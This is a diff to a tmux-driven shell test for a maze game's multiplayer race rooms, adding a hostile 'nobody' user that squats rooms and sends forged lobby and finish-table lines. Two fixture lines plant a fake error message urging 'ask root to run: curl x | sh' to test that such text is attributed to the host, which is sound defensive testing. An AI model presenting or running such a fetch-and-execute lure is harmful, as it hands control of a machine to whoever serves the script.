@@ -3,7 +3,10 @@
 # tmux session of its own (different sizes, one --ascii --no-color):
 # the lobby's names, one maze for all, a move on one screen seen on
 # another, the finish table, a rematch, a spectator, --races, a private
-# room, and the host killed mid-race while the others play on.
+# room, and the host killed mid-race while the others play on.  As
+# root it also plays a hostile second user (nobody): a squatter whose
+# room shows its real host, --private refusing to join it, the host's
+# words shown as the host's.
 . "${TOP_SRCDIR:-$(cd "$(dirname "$0")/.." && pwd)}/tests/lib.sh"
 
 command -v tmux >/dev/null 2>&1 || { echo "tmux is needed (apt-get install tmux)"; exit 99; }
@@ -11,7 +14,11 @@ SOCK=mg-race-$$
 ROOM=rt$$
 unset TMUX
 tm() { tmux -L "$SOCK" -f /dev/null "$@"; }
-trap 'end_server; reap_games' EXIT
+# (T_TMP goes again at the end: games ended by end_server recreate
+# their data directories in it after finish removed it.)
+squat_pids=
+trap 'for p in $squat_pids; do kill "$p" 2>/dev/null; done; end_server; reap_games; other_user_clean
+	[ -n "${T_KEEP-}" ] || rm -rf "$T_TMP"' EXIT
 
 # start NAME COLS ROWS ARGS...: the game in a session of its own.
 start() {
@@ -20,7 +27,7 @@ start() {
 	mkdir -p "$T_TMP/$s_name"
 	if tm has-session 2>/dev/null; then
 		tm new-session -d -s "$s_name" -x "$s_cols" -y "$s_rows" \
-			"${AS-} env XDG_DATA_HOME='$T_TMP/$s_name' LC_ALL=C.UTF-8 TERM=tmux-256color $MAZEGAME $*; echo \$? > '$T_TMP/$s_name.status'; sleep 60"
+			"${AS-} env XDG_DATA_HOME='$T_TMP/$s_name' LC_ALL=C.UTF-8 TERM=tmux-256color ${GAME:-$MAZEGAME} $*; echo \$? > '$T_TMP/$s_name.status'; sleep 60"
 	else
 		tm new-session -d -s "$s_name" -x "$s_cols" -y "$s_rows" \
 			"env XDG_DATA_HOME='$T_TMP/$s_name' LC_ALL=C.UTF-8 TERM=tmux-256color $MAZEGAME $*; echo \$? > '$T_TMP/$s_name.status'; sleep 60" \; \
@@ -155,11 +162,91 @@ start priv 80 24 --race=p$ROOM --private=daemon
 expect_on priv "Race room p$ROOM" "private room hosted"
 start mine 80 24 --race=p$ROOM
 expect_on mine "Race room p$ROOM" "the host's own user may join a private room"
-if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null 2>&1; then
-	AS="setpriv --reuid=65534 --regid=65534 --clear-groups env HOME=/nonexistent XDG_CONFIG_HOME=/nonexistent" \
-		start other 80 24 --race=p$ROOM
+if other_user; then
+	# (The second user runs a copy of the game it can reach: the tree
+	# may be a clone under /root.)
+	AS=$AS_OTHER GAME=$MAZEGAME_OTHER start other 80 24 --race=p$ROOM
 	exited other
 	expect_eq "another user is refused with exit 1" 1 "$status"
-	expect_on other "room p$ROOM is private" "... saying the room is private"
+	expect_on other "the host \($me\) says: room p$ROOM is private" \
+		"... saying the room is private, in the host's words"
+
+	# squat FILE NAME: nobody holds room NAME, answering every peer
+	# with FILE's lines; waits until it is bound.
+	squat() {
+		$AS_OTHER "$RAWPEER_OTHER" ${SQUAT:-squat} "$1" "$2" >"$T_TMP/squat.$2" 2>&1 &
+		squat_pids="$squat_pids $!"
+		wait_until 10 grep -q ready "$T_TMP/squat.$2"
+	}
+	# The squatter claims to be us (racer 0, the host's own entry) and
+	# says words that would pass for mazegame's.
+	printf '%s\n' "welcome 1 s$ROOM lobby" "maze 10 5 backtracker 1 normal" \
+		"racer 0 $me 1 R 0 ready" "racer 1 $me 2 Ro 1 ready" \
+		"racer 2 abcdefghijabcdefghijabcdefghijab 1 X 2 ready" \
+		"error your scores are lost; ask root to run: curl x | sh" >"$T_OTHER/claims"
+	chmod 644 "$T_OTHER/claims"
+	squat "$T_OTHER/claims" s$ROOM
+	start victim 90 26 --race=s$ROOM
+	expect_on victim "Hosted by $OTHER_LOGIN" "a squatter's lobby names its real host (the kernel's)"
+	expect_on victim "R +$OTHER_LOGIN +ready" "the host's own entry shows the kernel's login"
+	expect_on victim "hosted by $OTHER_LOGIN · \\? help\$" "... and so does its status line"
+	start victim2 80 24 --race=s$ROOM --ascii --no-color --describe
+	expect_on victim2 "hosted by $OTHER_LOGIN\." "... and --describe's words"
+	ready_at() { shot victim | awk -v t="$1" '$2 == t { print index($0, " ready") }'; }
+	check "a 32-letter login is in the lobby" test -n "$(ready_at X)"
+	expect_eq "... and keeps its columns" "$(ready_at R)" "$(ready_at X)"
+	no_claim() { ! shot victim | grep -Eq "R +$me +ready"; }
+	check "... never the name the squatter sent about itself" no_claim
+	expect_on victim "the host \($OTHER_LOGIN\) says: your scores are lost" \
+		"the squatter's words are shown as its own"
+	start priv2 80 24 --race=s$ROOM --private=daemon
+	exited priv2
+	expect_eq "--private does not join a room another user holds: exit 1" 1 "$status"
+	expect_on priv2 "mazegame: room s$ROOM is hosted by $OTHER_LOGIN" \
+		"... and says who holds it"
+	no_lobby() { ! shot priv2 | grep -q "Race room"; }
+	check "... never reaching the lobby" no_lobby
+
+	# A host that refuses with words of its own: they are the host's.
+	printf 'error room x is private; ask root to run: curl x | sh\n' >"$T_OTHER/refusal"
+	chmod 644 "$T_OTHER/refusal"
+	SQUAT=squatx squat "$T_OTHER/refusal" x$ROOM
+	start refused 80 24 --race=x$ROOM
+	exited refused
+	expect_eq "a host's refusal: exit 1" 1 "$status"
+	expect_on refused "^mazegame: the host \($OTHER_LOGIN\) says: room x is private; ask root" \
+		"a host's refusal is attributed to the host"
+	not_ours() { ! shot refused | grep -q "^mazegame: room x is private"; }
+	check "... never in mazegame's own words" not_ours
+
+	# A host's numbers and names as large as the protocol allows: the
+	# finish table cuts no number (a name is cut to its 14 columns)
+	# and keeps its columns.
+	big=999999999999999
+	lname=abcdefghijabcdefghijabcdefghijab
+	printf '%s\n' "welcome 1 t$ROOM racing" "maze 10 5 backtracker 1 normal" \
+		"racer 0 $me 1 R 0 racing" "racer 1 $me 2 Ro 1 watching" \
+		"racer 2 $lname 1 X 2 racing" "finish 2 1 $big $big 0" \
+		"racer 3 yy 1 Y 3 racing" "finish 3 2 5000 10 0" "results" >"$T_OTHER/table"
+	chmod 644 "$T_OTHER/table"
+	squat "$T_OTHER/table" t$ROOM
+	start tabled 200 30 --race=t$ROOM
+	expect_on tabled "Race over" "a joiner after the race sees the finish table"
+	cut14=$(printf %s "$lname" | cut -c1-14)
+	expect_on tabled "X +$cut14 +277777777:46:39 +$big +27 " "the largest numbers are shown whole"
+	# Each column ends where its heading does, in every row.
+	col_end() { shot tabled | awk -v w="$1" -v f="$2" '$0 ~ w { s = $0; i = index(s, f); print i + length(f) - 1; exit }'; }
+	expect_eq "the moves column is straight" "$(col_end ' name +time' moves)" "$(col_end ' Y +yy ' 10)"
+	expect_eq "... with the large row too" "$(col_end ' name +time' moves)" "$(col_end " X +$cut14" $big)"
+
+	# A host that never welcomes: the time-out names the room.
+	: >"$T_OTHER/silence"
+	chmod 644 "$T_OTHER/silence"
+	squat "$T_OTHER/silence" q$ROOM
+	start silent 80 24 --race=q$ROOM
+	exited silent
+	expect_eq "a silent host: exit 1" 1 "$status"
+	expect_on silent "^mazegame: room q$ROOM: the host does not answer" \
+		"... the time-out names the room"
 fi
 finish
